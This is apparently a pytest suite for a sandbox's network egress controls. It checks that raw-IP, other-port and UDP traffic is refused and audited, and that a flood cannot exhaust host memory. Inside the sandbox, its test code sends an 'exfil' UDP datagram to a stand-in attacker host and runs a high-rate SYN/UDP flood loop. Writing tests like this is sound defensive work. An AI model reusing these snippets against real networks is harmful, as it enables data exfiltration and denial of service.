"""Attack: egress around the proxy (raw IPs, other ports, UDP), and a flood of it (issue 18).

Packets not for the proxy or resolver used to fail inside the sandbox unseen (no route), so the
audit log showed only what the proxy and resolver saw. Now they reach the egress namespace, are
refused there, and each attempt is in ``network.log()`` (kind tcp/udp/icmp, rule raw-ip or
port-not-allowed). A sandbox flooding them cannot grow the host's memory: the kernel logs at most
netns.LOG_RATE per sandbox, the proxy holds a bounded table between flushes and writes a bounded
number of rows per sandbox.
"""

from __future__ import annotations

import time

import pytest

from tests.network.conftest import ATTACKER, net_home, world  # noqa: F401 - the fake internet fixtures
from warmbox import Network, Sandbox
from warmbox.engine import egress
from warmbox.network import netns
from warmbox.network.proxy import REFUSED_FLUSH_S

pytestmark = pytest.mark.sandbox


def py(sb, code: str, timeout: float = 60):
    return sb.commands.run(["python3", "-c", code], timeout=timeout)


def refused(sb, wait_s: float = 5.0, **match) -> list:
    """The log's refused-packet rows matching ``match``, waiting (bounded) for the proxy's flush."""
    deadline = time.monotonic() + wait_s
    while True:
        rows = [
            e
            for e in sb.network.log()
            if e.rule in ("raw-ip", "port-not-allowed") and all(getattr(e, k) == v for k, v in match.items())
        ]
        if rows or time.monotonic() > deadline:
            return rows
        time.sleep(REFUSED_FLUSH_S / 4)


def rss_kib(pid: int) -> int:
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


@pytest.mark.parametrize(
    "tier", ["container", "gvisor", pytest.param("microvm", marks=pytest.mark.microvm, id="microvm")]
)
def test_raw_ip_other_port_and_udp_attempts_are_refused_and_audited(net_home, world, tier):
    world.clear_logs()
    with Sandbox.create(tier=tier, network=Network(allow=["allowed.test"]), timeout=120, home=net_home) as sb:
        r = py(
            sb,
            "import socket, time\n"
            "def tcp(host, port):\n"
            "    t = time.monotonic()\n"
            "    try:\n"
            "        socket.create_connection((host, port), timeout=5)\n"
            "        return 'connected'\n"
            "    except OSError as e:\n"
            "        return f'{type(e).__name__} {time.monotonic() - t:.2f}'\n"
            f"print(tcp('{ATTACKER}', 443))\n"
            f"print(tcp('{netns.GATEWAY}', 22))\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"u.sendto(b'exfil', ('{ATTACKER}', 5353))\n",
        )
        assert r.exit_code == 0, r.stderr
        raw, other = r.stdout.split("\n")[:2]
        # refused by the egress rules (a TCP reset), not left to its 5 s timeout: at once, though a
        # microVM under TCG on a loaded host once took 1.00 s to see the reset
        assert raw.startswith("ConnectionRefusedError") and float(raw.split()[1]) < 3.0, raw
        assert other.startswith("ConnectionRefusedError"), other
        (tcp,) = refused(sb, kind="tcp", address=ATTACKER)
        assert (tcp.port, tcp.decision, tcp.rule, tcp.host) == (443, "deny", "raw-ip", "")
        (gw,) = refused(sb, kind="tcp", address=netns.GATEWAY)
        assert (gw.port, gw.rule) == (22, "port-not-allowed")
        (udp,) = refused(sb, kind="udp", address=ATTACKER)
        assert (udp.port, udp.rule) == (5353, "raw-ip")
        # the proxy's own rows are still there, and nothing reached the fake internet
        assert py(sb, "import urllib.request; urllib.request.urlopen('http://allowed.test/hello.txt')").exit_code == 0
        assert any(e.kind == "http" and e.decision == "allow" for e in sb.network.log())
    assert world.log("attacker") == []


def test_raw_ip_syn_flood_is_refused_audited_with_a_bound_and_host_memory_stays_flat(net_home, world):
    world.clear_logs()
    with Sandbox.create(network=Network(allow=["allowed.test"]), timeout=180, home=net_home) as sb:
        py(sb, f"import socket; socket.socket().connect_ex(('{ATTACKER}', 1))")  # warm the proxy's paths
        refused(sb)
        proxy, sup = egress.proxy_pid(net_home), egress.supervisor_pid(net_home)
        assert proxy is not None and sup is not None
        before = rss_kib(proxy) + rss_kib(sup)
        seconds = 8.0
        # SYNs to 256 addresses x 60000 ports as fast as one process can (nonblocking connects), and
        # UDP datagrams besides: far beyond the kernel's log rate
        r = py(
            sb,
            "import socket, time\n"
            f"end = time.monotonic() + {seconds}; n = 0\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "while time.monotonic() < end:\n"
            "    for i in range(256):\n"
            "        s = socket.socket(); s.setblocking(False)\n"
            "        s.connect_ex((f'203.0.113.{i}', 1 + n % 60000)); s.close()\n"
            "        try: u.sendto(b'x', (f'198.51.100.{i}', 9))\n"
            "        except OSError: pass\n"
            "    n += 1\n"
            "print(n * 256)\n",
            timeout=60,
        )
        assert r.exit_code == 0, r.stderr
        sent = int(r.stdout)
        assert sent > 20_000, f"the flood was too small to prove anything ({sent} connects)"
        time.sleep(3 * REFUSED_FLUSH_S)
        rows = refused(sb)
        # audited, with a bound: the kernel logs at most 50/s (burst 100) for this sandbox
        assert 50 <= len(rows) <= 100 + 50 * (seconds + 4), len(rows)
        assert all(e.decision == "deny" and e.rule == "raw-ip" for e in rows)
        assert {e.kind for e in rows} == {"tcp", "udp"}
        grown = rss_kib(proxy) + rss_kib(sup) - before
        assert grown < 16 << 10, f"the proxy and its supervisor grew by {grown} KiB under the flood"
        # the proxy still serves this sandbox and its rules still hold
        r = py(sb, "import urllib.request; print(urllib.request.urlopen('http://allowed.test/hello.txt').status)")
        assert r.stdout.strip() == "200", r.stderr
        r = py(sb, f"import socket; print(socket.socket().connect_ex(('{ATTACKER}', 80)))")
        assert r.stdout.strip() == "111"  # ECONNREFUSED
    assert world.log("attacker") == []
